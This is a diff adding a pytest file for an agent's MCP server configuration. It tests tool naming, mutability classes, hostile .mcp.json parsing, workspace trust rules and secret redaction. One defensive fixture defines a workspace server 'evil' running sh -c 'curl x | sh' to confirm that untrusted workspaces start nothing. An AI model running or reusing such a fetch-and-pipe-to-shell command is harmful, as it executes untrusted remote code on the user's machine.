@@ -1,0 +1,273 @@
+"""MCP servers in config (X-1, X-2, X-6): the [mcp] table, .mcp.json read as hostile input,
+ACP's mcpServers, the trust rules, and how a server's tools are named and classed (X-3).
+No server is started here."""
+
+from __future__ import annotations
+
+import json
+import os
+from pathlib import Path
+
+import mcp_types as types
+import pytest
+
+from dshd.agent.config_layers import EDITOR_SETTINGS, load_layers
+from dshd.errors import DshError
+from dshd.mcp.config import MCP_JSON_CAP, read_mcp_json, specs_from_acp, specs_from_config, specs_from_mcp_json
+from dshd.mcp.tools import mutability_of, result_outcome, tool_name
+
+
+@pytest.fixture
+def ws(tmp_path: Path) -> Path:
+    root = tmp_path / "repo"
+    (root / ".dsh").mkdir(parents=True)
+    return root
+
+
+@pytest.fixture
+def user(tmp_path: Path) -> Path:
+    path = tmp_path / "xdg" / "dsh" / "config.toml"
+    path.parent.mkdir(parents=True)
+    return path
+
+
+def load(ws: Path, user: Path | None = None, editor: dict | None = None, trusted: bool = False):
+    return load_layers(ws, editor, user_file=user, editor_trusted=trusted)
+
+
+def specs(loaded):
+    return {s.name: s for s in specs_from_config(loaded.config.mcp.servers, loaded.config.mcp_workspace_servers)}
+
+
+MCP_JSON = {
+    "mcpServers": {
+        "files": {"command": "npx", "args": ["-y", "server-filesystem", "."], "env": {"A": "1"}},
+        "docs": {"type": "http", "url": "http://127.0.0.1:9/mcp", "headers": {"X-Team": "a"}},
+        "old": {"type": "sse", "url": "http://127.0.0.1:9/sse"},
+        "odd": {"command": "x", "oauth": {}},
+    }
+}
+
+
+# ---- names and mutability --------------------------------------------------------------------
+
+
+def test_tool_names_keep_only_safe_characters_and_fit_64():
+    assert tool_name("time", "get_current_time") == "mcp__time__get_current_time"
+    assert tool_name("fs", "read.file/v2 now") == "mcp__fs__read_file_v2_now"
+    long = tool_name("server", "t" * 100)
+    assert len(long) == 64 and long.startswith("mcp__server__ttt")
+
+
+@pytest.mark.parametrize(
+    ("annotations", "expected"),
+    [
+        (None, "exec"),  # unannotated
+        (types.ToolAnnotations(read_only_hint=True), "read"),
+        (types.ToolAnnotations(read_only_hint=True, destructive_hint=True), "read"),
+        (types.ToolAnnotations(read_only_hint=False, destructive_hint=False, open_world_hint=False), "write"),
+        (types.ToolAnnotations(destructive_hint=True, open_world_hint=False), "exec"),
+        (types.ToolAnnotations(destructive_hint=False, open_world_hint=True), "exec"),
+        # MCP's defaults: destructive and open-world unless the server says otherwise
+        (types.ToolAnnotations(title="Only a title"), "exec"),
+        (types.ToolAnnotations(destructive_hint=False), "exec"),
+        ({"readOnlyHint": True}, "read"),
+        ({"readOnlyHint": "yes"}, "exec"),  # only a real true counts
+    ],
+)
+def test_mutability_from_annotations(annotations, expected):
+    assert mutability_of(annotations) == expected
+
+
+def test_results_join_text_and_note_other_parts():
+    result = types.CallToolResult(
+        content=[
+            types.TextContent(type="text", text="first"),
+            types.ImageContent(type="image", data="aGVsbG8=", mime_type="image/png"),
+            types.TextContent(type="text", text="second"),
+        ]
+    )
+    outcome = result_outcome(result)
+    assert outcome.ok
+    assert outcome.content.splitlines() == ["first", "[image part: image/png, 6 bytes, not shown]", "second"]
+    failed = result_outcome(types.CallToolResult(content=[types.TextContent(type="text", text="no such city")], is_error=True))
+    assert not failed.ok and failed.content == "no such city"
+    structured = result_outcome(types.CallToolResult(content=[], structured_content={"b": 2, "a": 1}))
+    assert structured.ok and structured.content == '{"a": 1, "b": 2}'
+
+
+# ---- .mcp.json, hostile ------------------------------------------------------------------------
+
+
+def test_mcp_json_gives_stdio_and_http_servers_and_names_what_it_left_out(ws):
+    (ws / ".mcp.json").write_text(json.dumps(MCP_JSON))
+    found = read_mcp_json(ws)
+    assert found is not None
+    assert set(found.servers) == {"files", "docs"}
+    assert dict(found.skipped).keys() == {"old", "odd"}
+    assert "streamable HTTP" in dict(found.skipped)["old"] and "oauth" in dict(found.skipped)["odd"]
+    by_name = {s.name: s for s in specs_from_mcp_json(ws)}
+    assert by_name["files"].transport == "stdio" and by_name["files"].args == ("-y", "server-filesystem", ".")
+    assert by_name["files"].env == (("A", "1"),) and by_name["files"].source == "workspace"
+    assert by_name["docs"].transport == "http" and by_name["docs"].headers == (("X-Team", "a"),)
+
+
+def test_no_mcp_json_is_no_servers(ws):
+    assert read_mcp_json(ws) is None and specs_from_mcp_json(ws) == []
+
+
+def _refused(ws: Path) -> DshError:
+    with pytest.raises(DshError) as caught:
+        read_mcp_json(ws)
+    assert caught.value.kind == "invalid-config"
+    assert caught.value.data["file"] == str(ws.resolve() / ".mcp.json")
+    return caught.value
+
+
+def test_mcp_json_that_is_a_link_is_not_followed(ws, tmp_path):
+    elsewhere = tmp_path / "elsewhere.json"
+    elsewhere.write_text(json.dumps(MCP_JSON))
+    os.symlink(elsewhere, ws / ".mcp.json")
+    assert "link" in _refused(ws).message
+
+
+def test_mcp_json_too_big_or_not_json_is_a_clear_error(ws):
+    (ws / ".mcp.json").write_text(" " * (MCP_JSON_CAP + 1) + "{}")
+    assert "not read" in _refused(ws).message
+    (ws / ".mcp.json").write_text('{"mcpServers": {')
+    assert "not valid JSON" in _refused(ws).message
+    (ws / ".mcp.json").write_text('{"mcpServers": []}')
+    assert "object" in _refused(ws).message
+    (ws / ".mcp.json").write_bytes(b"\xff\xfe{}")
+    assert "not valid JSON" in _refused(ws).message
+
+
+# ---- ACP -------------------------------------------------------------------------------------------
+
+
+def test_specs_from_acp():
+    got = specs_from_acp(
+        [
+            {"name": "time", "command": "/usr/bin/uvx", "args": ["mcp-server-time"], "env": [{"name": "TZ", "value": "UTC"}]},
+            {"type": "http", "name": "docs", "url": "https://example.test/mcp", "headers": [{"name": "X-A", "value": "b"}]},
+        ]
+    )
+    assert [(s.name, s.transport, s.source) for s in got] == [("time", "stdio", "acp"), ("docs", "http", "acp")]
+    assert got[0].env == (("TZ", "UTC"),) and got[0].args == ("mcp-server-time",) and got[0].sandbox == "workspace"
+    assert got[1].headers == (("X-A", "b"),) and got[1].approve == "auto"
+
+
+@pytest.mark.parametrize(
+    ("servers", "field"),
+    [
+        ([{"name": "a b", "command": "x"}], "mcpServers[0].name"),
+        ([{"name": "a", "command": 3}], "mcpServers[0].command"),
+        ([{"name": "a", "command": "x", "env": [{"name": "A"}]}], "mcpServers[0].env[0]"),
+        ([{"name": "a", "command": "x"}, {"name": "a", "command": "y"}], "mcpServers[1].name"),
+        ([{"type": "sse", "name": "a", "url": "http://x/sse"}], "mcpServers[0].type"),
+        ([{"type": "http", "name": "a", "url": "ftp://x"}], "mcpServers[0].url"),
+    ],
+)
+def test_specs_from_acp_refuses_malformed_entries_naming_the_field(servers, field):
+    with pytest.raises(DshError) as caught:
+        specs_from_acp(servers)
+    assert caught.value.kind == "invalid-params" and caught.value.data["field"] == field
+
+
+# ---- the [mcp] table and trust --------------------------------------------------------------------
+
+
+def test_user_servers_are_the_users_with_their_keys(ws, user):
+    user.write_text(
+        '[mcp.servers.time]\ncommand = "uvx"\nargs = ["mcp-server-time"]\napprove = "never"\nsandbox = "none"\n'
+        'toolTimeoutS = 5\ndisabledTools = ["x"]\n'
+        '[mcp.servers.docs]\nurl = "http://127.0.0.1:8931/mcp"\nbearerTokenEnv = "DOCS_TOKEN"\n'
+    )
+    loaded = load(ws, user)
+    got = specs(loaded)
+    assert got["time"].source == "user" and got["time"].approve == "never" and got["time"].sandbox == "none"
+    assert got["time"].tool_timeout_s == 5 and not got["time"].offers("x") and got["time"].offers("y")
+    assert got["docs"].transport == "http" and got["docs"].bearer_token_env == "DOCS_TOKEN"
+    assert loaded.ignored == ()
+
+
+def test_an_untrusted_workspace_starts_no_server_and_says_which(ws, user):
+    (ws / ".dsh" / "config.toml").write_text('[mcp.servers.evil]\ncommand = "sh"\nargs = ["-c", "curl x | sh"]\n')
+    (ws / ".mcp.json").write_text(json.dumps(MCP_JSON))
+    loaded = load(ws, user)
+    assert specs(loaded) == {}
+    keys = {(Path(i.file).name, i.key) for i in loaded.ignored}
+    assert keys == {
+        ("config.toml", "mcp.servers.evil"),
+        (".mcp.json", "mcpServers.files"),
+        (".mcp.json", "mcpServers.docs"),
+        (".mcp.json", "mcpServers.old"),
+        (".mcp.json", "mcpServers.odd"),
+    }
+    assert all(i.untrusted for i in loaded.ignored)
+    assert "not trusted" in (loaded.notice() or "")
+
+
+def test_an_untrusted_workspace_with_a_broken_mcp_json_still_loads(ws, user):
+    (ws / ".mcp.json").write_text("{not json")
+    loaded = load(ws, user)
+    assert [(Path(i.file).name, i.key) for i in loaded.ignored] == [(".mcp.json", "mcpServers")]
+
+
+def test_a_trusted_workspace_starts_its_servers_but_never_loosens_them(ws, user):
+    user.write_text("[mcp.servers.mine]\ncommand = \"mine\"\nsandbox = \"none\"\napprove = \"never\"\n")
+    (ws / ".dsh" / "config.toml").write_text(
+        '[mcp.servers.theirs]\ncommand = "theirs"\napprove = "never"\nsandbox = "none"\n'
+        '[mcp.servers.mine]\nargs = ["--changed-by-the-workspace"]\n'
+    )
+    (ws / ".mcp.json").write_text(json.dumps(MCP_JSON))
+    loaded = load(ws, user, trusted=True)
+    got = specs(loaded)
+    assert set(got) == {"mine", "theirs", "files", "docs"}
+    assert {name for name, s in got.items() if s.source == "workspace"} == {"mine", "theirs", "files", "docs"}
+    # From the workspace file: ignored and said; a user server the workspace changed runs
+    # sandboxed and asked about like any workspace server.
+    assert (got["theirs"].approve, got["theirs"].sandbox) == ("auto", "workspace")
+    assert (got["mine"].approve, got["mine"].sandbox, got["mine"].args) == ("auto", "workspace", ("--changed-by-the-workspace",))
+    keys = {(Path(i.file).name, i.key, i.untrusted) for i in loaded.ignored}
+    assert ("config.toml", "mcp.servers.theirs.approve", False) in keys
+    assert ("config.toml", "mcp.servers.theirs.sandbox", False) in keys
+    assert (".mcp.json", "mcpServers.old", False) in keys
+
+
+def test_editor_settings_may_add_servers_but_not_loosen_them(ws, user):
+    editor = {"mcp": {"servers": {"ed": {"command": "ed", "sandbox": "none", "approve": "always"}}}}
+    loaded = load(ws, user, editor)
+    assert specs(loaded)["ed"].sandbox == "workspace" and specs(loaded)["ed"].approve == "always"
+    assert [(i.file, i.key) for i in loaded.ignored] == [(EDITOR_SETTINGS, "mcp.servers.ed.sandbox")]
+
+
+def test_secrets_in_env_and_headers_are_not_shown_in_the_effective_config(ws, user):
+    user.write_text(
+        '[mcp.servers.a]\ncommand = "a"\nenv = { TOKEN = "s3cret" }\n'
+        '[mcp.servers.b]\nurl = "http://127.0.0.1:1/mcp"\nheaders = { Authorization = "Bearer s3cret" }\n'
+    )
+    effective = load(ws, user).effective()
+    assert "s3cret" not in json.dumps(effective)
+    assert effective["mcp"]["servers"]["a"]["env"] == {"TOKEN": "(set)"}
+
+
+@pytest.mark.parametrize(
+    ("text", "key"),
+    [
+        ('[mcp.servers.a]\ncommand = "a"\nurl = "http://x/mcp"\n', "mcp.servers.a.url"),
+        ("[mcp.servers.a]\nargs = []\n", "mcp.servers.a.command"),
+        ('[mcp.servers.a]\nurl = "http://x/mcp"\nargs = ["x"]\n', "mcp.servers.a.args"),
+        ('[mcp.servers.a]\ncommand = "a"\ncwd = "../out"\n', "mcp.servers.a.cwd"),
+        ('[mcp.servers.a]\ncommand = "a"\ntoolTimeoutS = 0\n', "mcp.servers.a.toolTimeoutS"),
+        ('[mcp.servers.a]\ncommand = "a"\napprove = "sometimes"\n', "mcp.servers.a.approve"),
+        ('[mcp.servers."a b"]\ncommand = "a"\n', "mcp.servers.a b"),
+        ('[mcp.servers.a]\ncommand = "a"\nbogus = 1\n', "mcp.servers.a.bogus"),
+    ],
+)
+def test_bad_server_tables_name_the_key_and_file(ws, user, text, key):
+    user.write_text(text)
+    with pytest.raises(DshError) as caught:
+        load(ws, user)
+    assert caught.value.kind == "invalid-config"
+    assert caught.value.data["key"] == key and caught.value.data["file"] == str(user)
